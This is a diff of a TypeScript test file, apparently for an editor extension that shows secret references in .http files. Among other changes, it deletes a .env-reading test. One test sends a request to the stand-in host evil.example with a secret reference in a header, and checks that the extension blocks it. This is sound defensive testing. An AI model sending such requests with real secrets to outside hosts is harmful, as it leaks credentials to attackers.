@@ -1,17 +1,7 @@
-import assert from 'node:assert/strict';
-import { mkdir } from 'node:fs/promises';
-import { join } from 'node:path';
 import { until } from '../host/until';
 import { workbench } from '../host/workbench';
 import { outletEntry, setClients, setSetting } from './bench';
-import {
-  decorations,
-  openUntitled,
-  reference,
-  untilDecorated,
-  useOutletFile,
-  variable,
-} from './httpFilesBench';
+import { decorations, openUntitled, reference, untilDecorated, useOutletFile } from './httpFilesBench';
 
 describe('a .http file shows behind a reference', () => {
   const { bench, text } = useOutletFile();
@@ -41,33 +31,11 @@ describe('a .http file shows behind a reference', () => {
     await setClients([outletEntry(bench.sandbox, { clientId: 'refused' })]);
     await workbench.driver.openFile('outlets.http');
     await untilDecorated(/^401: /);
-    assert.equal(await variable(), null);
   });
 
-  it('that it is withheld, here and elsewhere', async () => {
+  it('that its request will be blocked, and nothing of the sort at another request', async () => {
     await openUntitled(`${text()}\n###\nGET https://evil.example/\nX: ${reference}\n`);
-    await untilDecorated(/^withheld: host not allowed in line 7$/, /^withheld: host not allowed$/);
-  });
-
-  it('no error on the way, while the .env beside it is being read', async () => {
-    await mkdir(join(workbench.folder, 'beside'), { recursive: true });
-    await workbench.writeFile('beside/.env', `HOST=${bench.sandbox.gobiz.url}\n`);
-    await workbench.writeFile('beside/host.http', text('{{$dotenv HOST}}'));
-    // The status bar speaks of the file before a moment longer.
-    await workbench.driver.statusItems().filter({ hasText: 'withheld' }).waitFor({ state: 'hidden' });
-    await workbench.page.evaluate(watchTexts);
-    await workbench.host.run(
-      (vscode, file) => vscode.window.showTextDocument(vscode.Uri.file(file)),
-      join(workbench.folder, 'beside/host.http'),
-    );
-    await untilDecorated(/^\S{4}…\S{4} · until/);
-    const seen = await workbench.page.evaluate<string[]>(
-      'const seen = [...window.kunciTexts]; window.kunciTexts = undefined; seen',
-    );
-    assert.deepEqual(
-      seen.filter((one) => one.includes('withheld')),
-      [],
-    );
+    await untilDecorated(/until/, /^blocked: host not allowed$/);
   });
 
   it('as much as the setting says', async () => {
@@ -102,15 +70,3 @@ describe('a .http file shows behind a reference', () => {
     await untilDecorated(/until/);
   });
 });
-
-/** What stands behind references and in the status bar, looked at in each frame, as a person does. */
-const watchTexts = `
-  window.kunciTexts = new Set();
-  (function look() {
-    if (!window.kunciTexts) return;
-    for (const one of document.querySelectorAll('.view-line span span')) {
-      window.kunciTexts.add(getComputedStyle(one, '::after').content);
-    }
-    for (const one of document.querySelectorAll('.statusbar-item')) window.kunciTexts.add(one.innerText);
-    requestAnimationFrame(look);
-  })()`;
